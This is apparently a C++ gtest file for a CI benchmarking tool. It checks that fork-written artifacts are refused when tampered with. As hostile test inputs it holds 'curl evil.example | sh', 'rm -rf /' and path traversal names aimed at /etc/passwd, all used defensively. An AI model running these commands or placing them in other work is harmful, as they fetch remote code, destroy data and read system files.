// SPDX-License-Identifier: Apache-2.0
// The fork artifact (runner/client/fork_artifact.h) as `perfwarden publish` reads it: what the
// untrusted job wrote is read back whole, and every way of altering it is refused before
// anything is posted: a file changed after its hash, a file changed with its hash, another
// commit, project, pull request or a run of the target branch, an oversized file, an unknown
// manifest key, a file name that leaves the directory, a link, a measurement that amends.
#include "runner/client/fork_artifact.h"

#include <gtest/gtest.h>
#include <stdlib.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>

#include "runner/client/sha256.h"
#include "tests/testing/planted_paired.h"

namespace perfwarden::client {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

const std::string kHead(40, 'a');
const std::string kBase(40, 'b');

std::string Slurp(const fs::path& path) {
  std::stringstream text;
  text << std::ifstream(path).rdbuf();
  return text.str();
}

class ForkArtifactTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char pattern[] = "/tmp/perfwarden-artifact-XXXXXX";
    ASSERT_NE(mkdtemp(pattern), nullptr);
    dir_ = pattern;
    Artifact a;
    a.run.id = "0b5c1e2a-7d4f-4c3b-9a1e-2f6d8c0b4a19";
    a.run.project = "demo";
    a.run.branch = "feature";
    a.run.target_branch = "main";
    a.run.commit.sha = kHead;
    a.run.testbed = {"paired-bed", R"({"cpu_model":"planted"})"};
    a.run.ci.provider = "github";
    a.run.ci.pr = 17;
    a.run.runner_version = "v0.2.0";
    a.run.results = {
        {{"planted", "BM_Slow", "real_time"}, "ns", Direction::kLowerIsBetter, {1100, 1101, 1102}}};
    a.measurement = testing::PlantedMeasurement(kBase);
    a.verdict.run_id = a.run.id;
    a.verdict.outcome = wire::Outcome::kRegression;
    auto written = WriteArtifact(dir_, a, "v0.2.0");
    ASSERT_TRUE(written.has_value()) << written.error().ToString();
    written_ = a;
    original_run_ = Slurp(dir_ / kArtifactRun);
    expect_.project = "demo";
    expect_.commit = std::string(40, 'A');  // the event's sha, in any case
    expect_.pr = 17;
    expect_.refused_branches = {"main"};
  }
  void TearDown() override {
    std::error_code ec;
    fs::remove_all(dir_, ec);
  }

  json Manifest() { return json::parse(Slurp(dir_ / kArtifactManifest)); }
  void SetManifest(const json& manifest) {
    std::ofstream(dir_ / kArtifactManifest, std::ios::trunc) << manifest.dump();
  }
  // Rewrites a file and, with `rehash`, its hash in the manifest to match.
  void Rewrite(const std::string& name, const std::string& text, bool rehash) {
    std::ofstream(dir_ / name, std::ios::trunc) << text;
    if (!rehash) return;
    json manifest = Manifest();
    manifest["files"][name] = Sha256Hex(text);
    SetManifest(manifest);
  }
  // The run's JSON as written, with `key` set to `value`.
  std::string RunWith(const std::string& key, const json& value) {
    json run = json::parse(original_run_);
    run[key] = value;
    return run.dump();
  }

  // The refusal's message, "" when the artifact was accepted.
  std::string Refusal(const ArtifactLimits& limits = {}) {
    auto read = ReadArtifact(dir_, expect_, limits);
    if (read) return "";
    EXPECT_NE(read.error().code, ErrorCode::kUnavailable);
    return read.error().message;
  }

  fs::path dir_;
  Artifact written_;
  std::string original_run_;
  ArtifactExpectations expect_;
};

TEST_F(ForkArtifactTest, WhatWasWrittenIsReadBack) {
  auto read = ReadArtifact(dir_, expect_);
  ASSERT_TRUE(read.has_value()) << read.error().ToString();
  EXPECT_EQ(read->run, written_.run);
  EXPECT_EQ(read->measurement, written_.measurement);
  EXPECT_EQ(read->verdict.outcome, wire::Outcome::kRegression);
  EXPECT_EQ(read->manifest.commit, kHead);
  EXPECT_EQ(read->manifest.pr, 17);
  EXPECT_EQ(read->manifest.runner_version, "v0.2.0");
  EXPECT_EQ(read->manifest.files.size(), 3u);
  const json manifest = Manifest();
  EXPECT_EQ(manifest["format"], kArtifactFormat);
  EXPECT_EQ(manifest["files"][kArtifactRun], FileSha256(dir_ / kArtifactRun).value());
  // No pull request expected (not every CI names one): not checked.
  expect_.pr.reset();
  EXPECT_EQ(Refusal(), "");
}

TEST_F(ForkArtifactTest, AFileChangedAfterItsHashIsRefused) {
  const std::string run = Slurp(dir_ / kArtifactRun);
  std::string altered = run;
  altered.replace(altered.find("1100"), 4, "1000");
  Rewrite(kArtifactRun, altered, /*rehash=*/false);
  EXPECT_NE(Refusal().find("run.json does not match its SHA-256"), std::string::npos);
  // The measurement too.
  Rewrite(kArtifactRun, run, false);
  EXPECT_EQ(Refusal(), "");
  Rewrite(kArtifactPaired, Slurp(dir_ / kArtifactPaired) + " ", false);
  EXPECT_NE(Refusal().find("paired.json does not match its SHA-256"), std::string::npos);
}

TEST_F(ForkArtifactTest, FilesAlteredWithTheirHashesMustStillAgree) {
  // The run of another branch than the manifest names.
  Rewrite(kArtifactRun, RunWith("branch", "other"), true);
  EXPECT_NE(Refusal().find("disagree"), std::string::npos);
  // A run that the strict decoder refuses (an unknown key).
  Rewrite(kArtifactRun, RunWith("shell", "rm -rf /"), true);
  EXPECT_NE(Refusal().find("run.json:"), std::string::npos);
  Rewrite(kArtifactRun, original_run_, true);
  Rewrite(kArtifactPaired, "{}", true);
  EXPECT_NE(Refusal().find("paired.json:"), std::string::npos);
}

TEST_F(ForkArtifactTest, TheRunMustBeOfTheEventsCommitProjectAndPullRequest) {
  expect_.commit = std::string(40, 'c');
  EXPECT_NE(Refusal().find("the event's head commit is " + std::string(40, 'c')),
            std::string::npos);
  expect_.commit = kHead;
  expect_.project = "other";
  EXPECT_NE(Refusal().find("perfwarden.yaml's is 'other'"), std::string::npos);
  expect_.project = "demo";
  expect_.pr = 18;
  EXPECT_NE(Refusal().find("pull request #17, the event's is #18"), std::string::npos);
  expect_.pr = 17;
  EXPECT_EQ(Refusal(), "");
}

TEST_F(ForkArtifactTest, ARunOfTheTargetBranchIsRefused) {
  Rewrite(kArtifactRun, RunWith("branch", "main"), true);
  json manifest = Manifest();
  manifest["branch"] = "main";
  SetManifest(manifest);
  EXPECT_NE(Refusal().find("the run is of branch main, the target branch"), std::string::npos);
}

TEST_F(ForkArtifactTest, AnOversizedFileIsRefusedUnread) {
  ArtifactLimits limits;
  limits.max_file_bytes = 200;
  EXPECT_NE(Refusal(limits).find("bytes, more than the 200 allowed"), std::string::npos);
  limits = {};
  limits.max_manifest_bytes = 16;
  EXPECT_NE(Refusal(limits).find("manifest.json has"), std::string::npos);
}

TEST_F(ForkArtifactTest, AnUnknownManifestKeyIsRefused) {
  json manifest = Manifest();
  manifest["command"] = "curl evil.example | sh";
  SetManifest(manifest);
  EXPECT_NE(Refusal().find("unknown key 'command'"), std::string::npos);
  manifest.erase("command");
  manifest["format"] = "perfwarden-fork-artifact/2";
  SetManifest(manifest);
  EXPECT_NE(Refusal().find("format"), std::string::npos);
}

TEST_F(ForkArtifactTest, FileNamesThatLeaveTheDirectoryAreRefused) {
  const json original = Manifest();
  const std::string run_hash = original["files"][kArtifactRun];
  for (const std::string name :
       {"../run.json", "sub/../../etc/passwd", "/etc/passwd", "..", ".hidden", "a\\..\\run.json"}) {
    json manifest = original;
    manifest["files"][name] = run_hash;
    SetManifest(manifest);
    EXPECT_NE(Refusal().find("path traversal"), std::string::npos) << name;
  }
  json manifest = original;
  manifest["files"]["build.sh"] = run_hash;
  SetManifest(manifest);
  EXPECT_NE(Refusal().find("unknown file 'build.sh'"), std::string::npos);
  manifest = original;
  manifest["files"].erase(kArtifactPaired);
  SetManifest(manifest);
  EXPECT_NE(Refusal().find("does not list paired.json"), std::string::npos);
}

TEST_F(ForkArtifactTest, ALinkIsNotFollowed) {
  fs::rename(dir_ / kArtifactRun, dir_ / "elsewhere.json");
  fs::create_symlink(dir_ / "elsewhere.json", dir_ / kArtifactRun);
  EXPECT_NE(Refusal().find("run.json is a symbolic link"), std::string::npos);
  fs::remove(dir_ / kArtifactRun);
  auto read = ReadArtifact(dir_, expect_);
  ASSERT_FALSE(read.has_value());
  EXPECT_EQ(read.error().code, ErrorCode::kNotFound);
}

TEST_F(ForkArtifactTest, AMeasurementThatAmendsAVerdictIsRefused) {
  wire::PairedMeasurement m = written_.measurement;
  m.amends = 3;
  Rewrite(kArtifactPaired, wire::EncodePairedMeasurement(m), true);
  EXPECT_NE(Refusal().find("amends a verdict"), std::string::npos);
}

}  // namespace
}  // namespace perfwarden::client
